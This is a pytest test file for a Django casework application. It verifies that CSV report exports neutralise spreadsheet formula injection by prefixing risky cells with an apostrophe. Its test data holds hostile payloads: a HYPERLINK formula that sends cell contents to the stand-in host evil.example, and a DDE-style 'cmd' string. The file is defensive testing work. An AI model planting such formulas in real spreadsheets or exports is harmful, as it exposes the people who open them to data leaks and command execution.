"""Exports are safe (issue 9, finding 9): no CSV cell can run as a spreadsheet formula."""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse

from casework.exports import csv_safe, safe_csv_writer
from referrals.models import Referral, ReferralStatus
from tests.conftest import login
from tests.factories import AgencyFactory, ProgramFactory

from .conftest import WEEK, at

EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+2", "'=1+2"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Agency X", "Agency X"),
        ("<5", "<5"),
        ("−3 h", "−3 h"),  # a real minus sign: no spreadsheet reads it as a formula
    ],
)
def test_text_cells_that_start_like_a_formula_are_neutralised(value, written):
    assert csv_safe(value) == written


@pytest.mark.parametrize("value", [-3, 2.5, Decimal("-1.50"), "-3", "+15", "1,250", "-12.5"])
def test_numbers_stay_numbers(value):
    assert csv_safe(value) == value


def test_the_writer_neutralises_every_cell():
    out = io.StringIO()
    safe_csv_writer(out).writerow(["=A1", -3, "ok"])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["'=A1", "-3", "ok"]


@pytest.mark.django_db
def test_an_admin_entered_agency_name_cannot_run_in_the_report_csv(client, personas, outcome_data):
    agency = AgencyFactory(name=EVIL_NAME, slug="evil")
    program = ProgramFactory(agency=agency, name="=1+1")
    Referral.objects.create(
        client=outcome_data.client_es,
        program=program,
        agency=agency,
        sending_center=personas.center_a,
        sent_by=personas.navigator_a,
        consent=outcome_data.client_es.consents.first(),
        need_category="food",
        reason="x",
        status=ReferralStatus.REQUESTED,
        created_at=at(WEEK, 10),
    )
    login(client, personas.manager)
    response = client.get(
        reverse("reports:dashboard_csv"),
        {"start": "2026-11-09", "end": "2026-11-15", "agency": agency.pk},
    )
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert ["About this report", "Filter", "Agency", "", "", "", "'" + EVIL_NAME] in rows
    assert any(row[1] == "'" + EVIL_NAME for row in rows if row[0] == "Partner scorecard")
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), row
            assert not cell.startswith("-") or cell.lstrip("-").replace(",", "").isdigit(), row
